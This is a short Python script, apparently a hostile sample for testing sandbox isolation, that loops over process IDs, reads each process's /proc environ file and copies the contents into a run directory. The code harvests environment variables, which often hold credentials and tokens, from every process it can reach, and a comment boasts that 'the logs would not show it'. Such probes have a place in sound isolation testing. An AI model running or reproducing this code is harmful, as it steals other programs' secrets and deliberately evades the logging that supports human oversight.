"""Reads every /proc/*/environ that it can."""

import contextlib
import json
import os
from pathlib import Path

W = json.loads(os.environ["HOSTILE"])
for name in [*map(str, range(1, 400)), *os.listdir("/proc")]:
    if name.isdecimal():
        with contextlib.suppress(OSError):
            told = Path(f"/proc/{name}/environ").read_bytes()
            Path(W["run"], f"told-{name}").write_bytes(told)  # the logs would not show it
